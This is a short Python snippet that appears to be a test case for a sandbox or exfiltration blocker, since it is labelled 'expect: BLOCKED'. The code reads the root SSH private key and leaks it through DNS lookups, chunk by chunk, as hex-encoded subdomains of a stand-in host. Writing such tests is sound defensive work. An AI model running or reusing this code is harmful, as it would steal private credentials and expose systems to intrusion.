# expect: BLOCKED
import socket
key = open("/root/.ssh/id_rsa").read()
for i in range(0, len(key), 30):
    socket.getaddrinfo(key[i:i + 30].encode().hex() + ".evil.test", 80)
